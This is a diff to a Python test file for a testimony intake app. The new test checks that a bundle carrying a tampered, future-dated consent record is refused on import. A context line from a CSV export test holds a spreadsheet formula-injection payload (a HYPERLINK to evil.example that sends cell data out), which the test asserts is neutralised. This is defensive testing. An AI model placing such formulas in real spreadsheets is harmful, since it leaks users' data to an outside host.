@@ -271,3 +271,33 @@ def test_f6_uwazi_cells_cannot_be_formulas(vault: Vault, tmp_path: Path) -> None
              for row in csv.reader(io.StringIO(text)) for c in row]
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'@SUM(1,2)" in cells
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+
+
+# ---- finding 4 at import: a laptop's bundle cannot bring what a save refuses ------------------------------
+def test_f4_import_refuses_a_future_dated_decision(tmp_path: Path) -> None:
+    """(A name with an invisible character cannot reach a bundle: the importer's interchange.validate refuses it as
+    the save does, and the laptop's own vault already refuses to hold it.)"""
+    from intake_app.bundles.export import export_bundle
+    from intake_app.bundles.importer import Importer
+    from tests.bundles.test_merge_properties import connect, create_vault
+
+    hq, field = create_vault(tmp_path / "hq", "hq"), create_vault(tmp_path / "field")
+    device = connect(field, hq, "laptop-1")
+    doc = make_testimony(TID_A, {"wgeid": {"value": "granted", "anonymity": "full_name", "date": "2024-05-02"}})
+    doc["consent"]["wgeid"]["date"] = "2099-12-31"  # saved by a laptop whose clock says 2100
+    at = "2100-01-01T00:00:00Z"
+    # what a modified laptop writes into its own vault, bypassing its own save checks
+    content = json.dumps({**doc, "id": TID_A}, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode()
+    rev = revisions.Revision.make(TID_A, [], device, at, content)
+    with Transaction(field.conn):
+        revisions.insert_revision(field.conn, rev)
+        revisions.refresh_record(field.conn, TID_A, summarise, search_fields)
+    (tmp_path / "usb").mkdir()
+    try:
+        bundle = export_bundle(field, tmp_path / "usb").path
+        outcome = Importer(hq).import_file(bundle)
+        assert outcome.status == "refused" and "dated after the day it was saved" in str(outcome.reason)
+        assert hq.conn.execute("SELECT count(*) FROM revisions").fetchone()[0] == 0
+    finally:
+        field.lock()
+        hq.lock()
